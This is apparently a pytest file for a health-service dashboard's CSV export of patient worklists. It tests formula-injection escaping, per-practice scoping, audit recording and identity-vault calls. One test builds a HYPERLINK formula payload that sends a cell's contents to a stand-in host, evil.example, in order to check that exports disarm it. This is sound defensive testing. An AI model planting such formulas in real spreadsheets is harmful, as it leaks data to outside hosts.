"""Files that hold rows of people: what a spreadsheet makes of them."""

import csv
import io
from collections import Counter
from dataclasses import replace
from datetime import UTC, date, datetime
from unittest import mock

import pytest

from dashboards import exports
from dashboards.definitions import FILES, LISTS
from dashboards.exports import csv_text, export_list
from dashboards.selectors.worklist import Card, Decided, Worklist
from governance.access import Viewer
from linkage.reveal import Named, Revealed, RevealRefusedError

HEADER = [column.header for column in FILES["full"].columns]
SPEC = LISTS["proactive_care"]
VIEWER = Viewer(
    user_id=7,
    username="mdt",
    full_name="M D T",
    role="pcn_mdt_member",
    purpose="population_health",
    org_code="U1",
    org_name="Northgate East PCN",
    org_kind="pcn",
    practice_codes=frozenset({"Z81001", "Z81002"}),
)
CARD = Card(
    reference="b4k9tq" + "a" * 26,
    practice_code="Z81001",
    practice_name="Practice 1",
    rank=1,
    chance="about 3 in 10 people like this",
    reasons=["Severe frailty", "12 different medicines in 12 months"],
    known=[],
    needs=[],
    changed=[],
    hidden=0,
    step=SPEC.next_steps[-1],
    is_new=True,
    person_no=11,
)
DECIDED = Decided(
    id=1,
    choice="Accepted",
    reason="Suitable",
    note="",
    at=datetime(2026, 10, 2, 9, tzinfo=UTC),
    by_me=True,
)
ANNA = Named("9990010017", "ANDERTON", "Anna", "1944-02-17", "1 Harbour Row", "ZZ1 9ZZ")


def a_list(*today: Card, decided: tuple[Card, ...] = ()) -> Worklist:
    return Worklist(
        programme="proactive_care",
        spec=SPEC,
        as_of=date(2026, 9, 30),
        today=list(today),
        waiting=0,
        decided=list(decided),
        new=0,
        total=len(today) + len(decided),
        accepted_this_week=0,
        last_visit=None,
        capacity=12,
        decided_in_all=Counter(),
    )


@pytest.fixture
def told():
    """The audit rows that an export writes."""
    with mock.patch.object(exports.audit, "record") as record:
        yield record


@pytest.fixture
def vault():
    """The vault: it names everyone it is asked for as Anna."""

    def names(viewer, *, programme, reason, person_nos):
        return Revealed(dict.fromkeys(person_nos, ANNA), {})

    with mock.patch.object(exports.reveals, "names", side_effect=names) as asked:
        yield asked


def read(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_begins_as_a_formula_does(sign):
    attack = f'{sign}HYPERLINK("http://evil.example?"&A1)'
    text = csv_text(("a", "b"), [(attack, "plain")])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == [f"'{attack}", "plain"]


def test_numbers_stay_numbers_and_signs_inside_words_stay():
    text = csv_text(("a", "b", "c"), [(-1.5, "3 = 3", None)])
    assert text == "a,b,c\r\n-1.5,3 = 3,\r\n"


def test_commas_quotes_and_lines_stay_in_their_cell():
    cell = 'one, "two"\nthree'
    text = csv_text(("a",), [(cell,)])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a"], [cell]]


def test_a_row_carries_the_reasons_disarmed(told):
    card = replace(CARD, reasons=["=1+1", "@SUM(A1)"], practice_code="Z81001")
    (row,) = read(export_list(VIEWER, a_list(card), "Z81001", ""))
    assert row["reasons"] == "'=1+1; @SUM(A1)"
    assert list(row) == HEADER


def test_a_file_holds_one_practice_also_of_those_decided_on(told):
    other = replace(CARD, practice_code="Z81002", person_no=12, rank=2)
    done = replace(CARD, person_no=13, rank=3, decision=DECIDED)
    made = a_list(CARD, other, decided=(done, replace(other, decision=DECIDED)))
    rows = read(export_list(VIEWER, made, "Z81001", ""))
    assert [(r["rank"], r["decision"], r["decided_on"]) for r in rows] == [
        ("1", "", ""),
        ("3", "Accepted", "2026-10-02"),
    ]
    assert {r["practice_code"] for r in rows} == {"Z81001"}


def test_without_a_reason_the_vault_is_not_asked(told, vault):
    (row,) = read(export_list(VIEWER, a_list(CARD), "Z81001", ""))
    vault.assert_not_called()
    assert row["nhs_number"] == ""
    assert row["reference"] == "B4K 9TQ"


def test_with_a_reason_the_vault_is_asked_for_this_practice_alone(told, vault):
    other = replace(CARD, practice_code="Z81002", person_no=12)
    response = export_list(VIEWER, a_list(CARD, other), "Z81001", "export_to_gp_system")
    vault.assert_called_once_with(
        VIEWER,
        programme="proactive_care",
        reason="export_to_gp_system",
        person_nos=[CARD.person_no],
    )
    (row,) = read(response)
    assert row["nhs_number"] == "9990010017"
    # Names are for the page; the file carries the number and nothing else of them.
    assert "ANDERTON" not in response.content.decode()


def test_an_empty_practice_asks_the_vault_nothing(told, vault):
    assert read(export_list(VIEWER, a_list(CARD), "Z81002", "check_record")) == []
    vault.assert_not_called()


def test_a_file_is_on_record_before_it_leaves(told, vault):
    export_list(VIEWER, a_list(CARD), "Z81001", "export_to_gp_system")
    told.assert_called_once_with(
        "list_exported",
        VIEWER,
        subject="proactive_care",
        persons=1,
        seen=[CARD.person_no],
        practice="Z81001",
        with_numbers=True,
        form="full",
    )


def test_a_file_that_cannot_be_recorded_does_not_leave(told):
    told.side_effect = RuntimeError("no audit")
    with pytest.raises(RuntimeError):
        export_list(VIEWER, a_list(CARD), "Z81001", "")


def test_a_refusal_of_the_vault_leaves_no_file_and_no_record_of_one(told, vault):
    vault.side_effect = RevealRefusedError("training has lapsed")
    with pytest.raises(RevealRefusedError):
        export_list(VIEWER, a_list(CARD), "Z81001", "check_record")
    told.assert_not_called()
